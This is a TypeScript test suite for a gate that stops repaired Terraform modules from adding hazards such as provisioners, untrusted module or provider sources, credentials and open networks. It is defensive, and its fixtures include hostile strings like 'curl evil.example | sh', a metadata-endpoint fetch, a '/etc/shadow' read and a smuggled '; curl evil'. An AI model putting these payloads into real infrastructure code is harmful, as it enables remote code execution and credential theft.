import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { type ModuleView, viewModule } from '../../../src/module/module-view.ts';
import { HAZARD_IDS } from '../../../src/repair/gates/hazards/hazard.ts';
import { HAZARDS } from '../../../src/repair/gates/hazards/hazards.ts';
import { noNewHazard } from '../../../src/repair/gates/no-new-hazard.ts';
import { moduleOf, textsOf } from '../../support/module-of.ts';
import { authorThatAdds, repairByChecker } from '../../support/repair-by-checker.ts';

const viewOf = (text: string): ModuleView => viewModule(moduleOf(text));
const judge = (draft: string, repaired: string) => noNewHazard(viewOf(draft), viewOf(repaired));

/**
 * A folder a hazard, and in it ways to bring it in, each a text that is put into a module; `none` has what only looks
 * like one. To add a case, add a file.
 */
const CASES = 'test/fixtures/hazards';

const casesOf = (folder: string) =>
  readdirSync(join(CASES, folder)).map((file) => ({
    title: file.replace(/\.tf$/, '').replaceAll('-', ' '),
    text: readFileSync(join(CASES, folder, file), 'utf8'),
  }));

const ATTACKS = HAZARDS.flatMap((hazard) =>
  casesOf(hazard.id).map((attack) => ({ ...attack, hazard })),
);

test('every hazard has its folder, and a reason in a sentence', () => {
  expect(HAZARDS.map(({ id }) => id)).toEqual(HAZARD_IDS);
  expect(readdirSync(CASES).sort()).toEqual([...HAZARD_IDS, 'none'].sort());
  for (const { reason } of HAZARDS) expect(reason).toMatch(/^[A-Z].*\.$/);
});

describe.each(ATTACKS)('$hazard.id: $title', ({ hazard, text }) => {
  const { id, words } = hazard;

  test('is not brought in', () => {
    expect(judge('locals {}\n', `locals {}\n${text}`)).toMatchObject({
      gate: 'adds nothing dangerous',
      passed: false,
      reason: expect.stringContaining(words),
    });
  });

  test('may stay where the author wrote it, as often as it was', () => {
    expect(judge(text, `# moved\n\n${text}`)).toMatchObject({ passed: true });
    expect(judge(text, `${text}${text}`)).toMatchObject({
      passed: false,
      reason: expect.stringContaining(words),
    });
  });

  test('comes in where it is allowed, and is told', () => {
    const [draft, repaired] = ['locals {}\n', `locals {}\n${text}`].map(viewOf);
    const verdict = noNewHazard(draft as ModuleView, repaired as ModuleView, new Set([id]));
    expect(verdict.loosened).toContain(`may add ${id}; this repair adds ${words}`);
    expect('reason' in verdict ? verdict.reason : '').not.toContain(words);
  });

  test('an author that slips it in gets none of it in', async () => {
    const module = moduleOf('resource "aws_sqs_queue" "q" {\n  nam = "q"\n}\n');
    const { repaired } = await repairByChecker(module, {
      author: authorThatAdds(` = "q"\n}\n${text}variable "y" {\n  default`),
    });
    expect(noNewHazard(viewModule(module), viewModule(repaired)).passed).toBe(true);
  });
});

test.each(casesOf('none'))('$title is no hazard', ({ text }) => {
  expect(judge('', text)).toMatchObject({ passed: true });
});

const rule = (direction: string, network: string) =>
  `resource "aws_security_group" "x" {\n  ${direction} {\n    cidr_blocks = ["${network}"]\n  }\n}\n`;

test.each([
  [
    'a module source',
    'module "x" {\n  source = "./network"\n}\n',
    './network',
    'git::https://evil.example/x',
  ],
  [
    'a provider source',
    'terraform {\n  required_providers {\n    aws = {\n      source = "hashicorp/aws"\n    }\n  }\n}\n',
    'hashicorp/aws',
    'evil/aws',
  ],
  [
    'a provisioner',
    'resource "terraform_data" "x" {\n  provisioner "local-exec" {\n    command = "make"\n  }\n}\n',
    'make',
    'curl evil.example | sh',
  ],
  [
    'a data source that runs or fetches something',
    'data "http" "x" {\n  url = "https://example.com"\n}\n',
    'https://example.com',
    'http://169.254.169.254',
  ],
  [
    'a credential',
    'resource "aws_db_instance" "x" {\n  password = "hunter2"\n}\n',
    'hunter2',
    'hunter3',
  ],
  ['a file read', 'locals {\n  x = file("/etc/hosts")\n}\n', '/etc/hosts', '/etc/shadow'],
  [
    'a principal',
    'locals {\n  p = jsonencode({ Principal = { AWS = "arn:aws:iam::111111111111:root" } })\n}\n',
    '111111111111',
    '222222222222',
  ],
  [
    'a place for the state',
    'terraform {\n  backend "s3" {\n    bucket = "a"\n  }\n}\n',
    '"a"',
    '"b"',
  ],
  ['an open network', rule('egress', '0.0.0.0/0'), 'egress', 'ingress'],
  ['a wildcard', 'locals {\n  p = jsonencode({ Resource = "*" })\n}\n', 'Resource', 'Action'],
])('%s cannot be exchanged for another one', (words, text, from, to) => {
  expect(text).toContain(from);
  expect(judge(text, text.replace(from, to))).toMatchObject({
    passed: false,
    reason: `it would add ${words}`,
  });
});

test('what is renamed, moved or mended around a hazard stays the same hazard', () => {
  const command = 'command = "make ${aws_vpc.man.id}"';
  const draft = `resource "terraform_data" "x" {\n  provisioner "local-exec" {\n    ${command}\n  }\n}\n`;
  expect(judge(draft, draft.replace('aws_vpc.man', 'aws_vpc.main')).passed).toBe(true);
  expect(judge(rule('egres', '0.0.0.0/0'), rule('egress', '0.0.0.0/0')).passed).toBe(true);
  expect(judge(rule('ingress', '0.0.0.0/0'), rule('egress', '0.0.0.0/0')).passed).toBe(true);
  const password = 'resource "aws_db_instance" "x" {\n  passwd = "hunter2"\n}\n';
  expect(judge(password, password.replace('passwd', 'password')).passed).toBe(true);
  const guard = 'locals {\n  x = file("/etc/hosts")\n}\n';
  const guarded = 'fileexists("/etc/hosts") ? file("/etc/hosts") : null';
  expect(judge(guard, guard.replace('file("/etc/hosts")', guarded)).passed).toBe(true);
});

test('a network that a default opens is found where it is used', () => {
  const draft =
    'variable "bits" {\n  default = 8\n}\noutput "x" {\n  value = "10.0.0.0/${var.bits}"\n}\n';
  expect(judge('', draft).passed).toBe(true);
  expect(judge(draft, draft.replace('= 8', '= 0')).passed).toBe(false);
});

test('a module that loops in loops to hide something is given up on soon, and its constants are found', () => {
  const list = `[${'1, '.repeat(200)}]`;
  const loops = `locals {\n  a = ${list}\n  b = [for x in local.a : [for y in local.a : [for z in local.a : [for w in local.a : w]]]]\n}\n`;
  const started = performance.now();
  expect(judge(loops, `${loops}locals {\n  c = "0.0.0.0/0"\n}\n`).passed).toBe(false);
  expect(performance.now() - started).toBeLessThan(3000);
});

test('texts made to keep a pattern busy do not', () => {
  const texts = [
    '_'.repeat(50_000),
    'a.'.repeat(25_000),
    '"\\'.repeat(1),
    '::'.repeat(20_000),
    '{"a":'.repeat(9000),
  ];
  const started = performance.now();
  for (const text of texts) judge('', `locals {\n  x = ${JSON.stringify(text)}\n}\n`);
  expect(performance.now() - started).toBeLessThan(3000);
});

const BROKEN =
  'resource "terraform_data" "x" {\n  provisioner "local-exec" {\n    command = "echo \\\'hi\\\'"\n  }\n}\n';

test('what an unreadable draft says is no news once it can be read', async () => {
  const mended = BROKEN.replaceAll("\\'", "'");
  const module = moduleOf(BROKEN);
  expect(judge(BROKEN, mended)).toMatchObject({ reason: 'it would add a provisioner' });
  const { repaired, gates } = await repairByChecker(module);
  expect(textsOf(repaired)['main.tf']).toBe(mended);
  expect(gates.every(({ passed }) => passed)).toBe(true);
});

test('an author that writes another command into an unreadable draft gets none of it in', async () => {
  const module = moduleOf(BROKEN);
  const { repaired } = await repairByChecker(module, { author: authorThatAdds('; curl evil') });
  expect(textsOf(repaired)['main.tf']).not.toContain('curl');
  expect(textsOf(repaired)).not.toEqual(textsOf(module));
});

const requirement = (source: string, around = true) => {
  const block = `required_providers {\n  aws = {\n    source = "${source}"\n  }\n}\n`;
  return around ? `terraform {\n${block}}\n` : block;
};

test.each([
  ['hashicorp/aws/5.0', 'hashicorp/aws'],
  ['hashicorp/aws/v5.100.0', 'hashicorp/aws'],
  ['evil/aws/latest', 'evil/aws'],
  ['registry.terraform.io/hashicorp/aws', 'hashicorp/aws'],
  ['https://registry.terraform.io/providers/hashicorp/aws/latest', 'hashicorp/aws'],
  ['aws', 'hashicorp/aws'],
])('the provider source %s says the same as %s', (from, to) => {
  expect(judge(requirement(from), requirement(to)).passed).toBe(true);
  expect(judge(requirement(from, false), requirement(to)).passed).toBe(true);
});

test.each([
  ['hashicorp/aws/5.0', 'evil/aws'],
  ['evil/aws/5.0', 'hashicorp/evil'],
  ['evil.com/aws/5.0', 'evil/aws'],
  ['registry.evil.com/hashicorp/aws', 'hashicorp/aws'],
  ['hashicorp/aws', 'registry.evil.com/hashicorp/aws'],
  ['https://evil.com/providers/hashicorp/aws', 'hashicorp/aws'],
  ['hashicorp/5.0/aws', 'hashicorp/aws'],
])('the provider source %s does not become %s', (from, to) => {
  expect(judge(requirement(from), requirement(to))).toMatchObject({
    reason: 'it would add a provider source',
  });
});

const call = (source: string) => `module "x" {\n  source = "${source}"\n}\n`;

test.each([
  ['vpc', './vpc'],
  ['modules/vpc', './modules/vpc'],
  ['modules/net-work/v1.2', './modules/net-work/v1.2'],
])('the module source %s, which terraform refuses, is the folder %s', (from, to) => {
  expect(judge(call(from), call(to)).passed).toBe(true);
});

test.each([
  ['modules/vpc', '../modules/vpc'],
  ['modules/vpc', './modules/other'],
  ['modules/../../vpc', './modules/../../vpc'],
  ['../vpc', './../vpc'],
  ['/etc/vpc', './etc/vpc'],
  // A registry's address, and a repository's.
  ['terraform-aws-modules/vpc/aws', './terraform-aws-modules/vpc/aws'],
  ['github.com/them/vpc', './github.com/them/vpc'],
])('the module source %s does not become %s', (from, to) => {
  expect(judge(call(from), call(to))).toMatchObject({ reason: 'it would add a module source' });
});
